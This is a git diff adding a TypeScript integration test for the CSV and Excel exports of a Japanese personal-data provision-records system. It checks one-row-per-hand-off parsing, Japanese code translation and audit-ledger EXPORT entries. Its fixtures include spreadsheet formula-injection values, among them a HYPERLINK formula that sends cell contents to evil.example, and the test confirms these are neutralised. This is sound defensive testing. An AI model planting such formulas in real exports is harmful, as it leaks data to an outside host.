@@ -2,6 +2,8 @@ import { randomBytes, randomUUID } from 'node:crypto';
 import { RequestContext, type Actor } from '@daicho/access';
 import { ProvisionService } from '@daicho/provisions';
 import { ConsentEvidenceSealer } from '../../libs/provisions/src/consent/consent-evidence-sealer';
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
 import { DateTime } from 'luxon';
 import { Client } from 'pg';
 import { Role, TestApp } from '../harness/test-app';
@@ -207,6 +209,132 @@ describe('hand-offs: ids are access decisions, consents stay with their departme
       ['PROVIDE', p],
       ['READ', p],
     ]);
+  });
+
+  it('exports every hand-off as one parseable row, formulas neutralised, codes translated, each person an EXPORT entry (items 9, 12, 18, 19)', async () => {
+    const hostile = await gql<{ recordProvision: { id: string } }>(
+      'HR',
+      RECORD_PROVISION,
+      badge(employees, {
+        purposeAtRecipient: '=1+1\n2行目: 入館証の発行',
+      }),
+    );
+    expect(hostile.errors).toBeUndefined();
+    // personInCharge is free text: a formula there must come out as text.
+    const injected = await gql<{ recordProvision: { id: string } }>(
+      'HR',
+      RECORD_PROVISION,
+      badge([employees[1]], {}),
+    );
+    expect(injected.errors).toBeUndefined();
+    const formula = await gql<{ recordProvision: { id: string } }>('HR', RECORD_PROVISION, {
+      input: {
+        ...badge([employees[2]]).input,
+        handOff: {
+          subjectIds: [employees[2]],
+          handedOn: TODAY,
+          method: 'HAND_DELIVERY',
+          personInCharge: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        },
+      },
+    });
+    expect(formula.errors).toBeUndefined();
+    const receipt = await gql(
+      'HR',
+      `mutation($input: RecordReceiptInput!) { recordReceipt(input: $input) { id } }`,
+      {
+        input: {
+          sourceName: '株式会社人材紹介',
+          sourceAddress: '東京都新宿区西新宿2-8-1',
+          sourceRepresentative: '代表取締役 田中 次郎',
+          howObtained: 'Registered candidates who consented',
+          receivedOn: TODAY,
+          categoryCodes: ['EMPLOYEE'],
+        },
+      },
+    );
+    expect(receipt.errors).toBeUndefined();
+    const handOffs = await t.dataSource.query<{ n: number; persons: number }[]>(
+      `SELECT count(DISTINCT h.id)::int AS n, count(DISTINCT s.subject_id)::int AS persons
+         FROM hand_offs h JOIN provision_subjects s ON s.hand_off_id = h.id`,
+    );
+
+    const csv = await t.http
+      .get(`/exports/provisions.csv?lang=ja`)
+      .set('authorization', `Bearer ${tokens.get('CPO')}`);
+    expect(csv.status).toBe(200);
+    // As spreadsheets and line-based readers do, a line break outside quotes ends a record.
+    const rows = parse<Record<string, string>>(csv.text.replace(/^\uFEFF/, ''), {
+      columns: true,
+      record_delimiter: ['\r\n', '\n'],
+    });
+    // Exactly one row per hand-off: a three-person hand-off keeps its persons in one cell.
+    expect(rows).toHaveLength(handOffs[0].n);
+    const three = rows.find((r) => r['記録ID'] === hostile.data!.recordProvision.id)!;
+    expect(three['本人を特定する事項（仮名ID）'].split('\n').sort()).toEqual([...employees].sort());
+    expect(three['人数']).toBe('3');
+    expect(three['提供先の利用目的']).toBe("'=1+1\n2行目: 入館証の発行");
+    const link = rows.find((r) => r['記録ID'] === formula.data!.recordProvision.id)!;
+    expect(link['担当者']).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
+    // Codes and item keys in Japanese; staff by name, not by user id.
+    expect(three).toMatchObject({
+      提供の根拠: '本人の同意（法27条1項）',
+      提供方法: '手渡し',
+      状態: '記録済み',
+      国: '日本',
+      提供した項目: '氏名、所属、役職、電話番号、顔写真、資格',
+      担当者: 'HR user',
+    });
+    const ID_COLUMNS = ['記録ID', '本人を特定する事項（仮名ID）', '訂正対象の記録'];
+    const untranslated = (cells: [string, unknown][]) =>
+      cells.filter(
+        ([column, value]) =>
+          !ID_COLUMNS.includes(column) &&
+          /\b[A-Z][A-Z0-9]*_[A-Z0-9_]+\b|\b(CONSENT|RECORDED|APPROVED|POST|EMAIL|JP)\b|\b[a-z]+[A-Z]\w*\b|[0-9a-f]{8}-[0-9a-f]{4}-/.test(
+            String(value),
+          ),
+      );
+    expect(rows.flatMap((r) => untranslated(Object.entries(r)))).toEqual([]);
+
+    const xlsx = await t.http
+      .get(`/exports/provisions.xlsx?lang=ja`)
+      .set('authorization', `Bearer ${tokens.get('CPO')}`)
+      .buffer(true)
+      .parse((r, done) => {
+        const chunks: Buffer[] = [];
+        r.on('data', (c: Buffer) => chunks.push(c));
+        r.on('end', () => done(null, Buffer.concat(chunks)));
+      });
+    expect(xlsx.status).toBe(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(new Uint8Array(xlsx.body as Buffer).buffer);
+    const cells: [string, unknown][] = [];
+    for (const name of ['第三者提供記録', '第三者受領記録']) {
+      const sheet = workbook.getWorksheet(name)!;
+      const header = (sheet.getRow(1).values as string[]).slice(1);
+      for (const r of sheet.getSheetValues().slice(2)) {
+        header.forEach((h, i) => cells.push([h, (r as unknown[])[i + 1]]));
+      }
+    }
+    expect(cells.some(([h, v]) => h === '区分' && v === '従業員')).toBe(true);
+    expect(cells.some(([h, v]) => h === '確認者' && v === 'HR user')).toBe(true);
+    expect(untranslated(cells)).toEqual([]);
+
+    // Each person the files name: an EXPORT entry (two exports), shown in their footprint.
+    await t.sealLedger();
+    const exported = await t.ledgerRows(
+      `action = 'EXPORT' AND target_type = 'ProvisionExport' AND subject_id IS NOT NULL`,
+    );
+    expect(exported).toHaveLength(2 * handOffs[0].persons);
+    expect([...new Set(exported.map((e) => e.subject_id))].sort()).toEqual([...employees].sort());
+    const footprint = await gql<{ subjectFootprint: { accesses: { action: string }[] } }>(
+      'CPO',
+      `query($id: ID!) { subjectFootprint(subjectId: $id) { accesses { action } } }`,
+      { id: employees[2] },
+    );
+    expect(
+      footprint.data?.subjectFootprint.accesses.filter((a) => a.action === 'EXPORT'),
+    ).toHaveLength(2);
   });
 
   it('puts the rule’s catalog purpose in PROVIDE entries (item 24)', async () => {
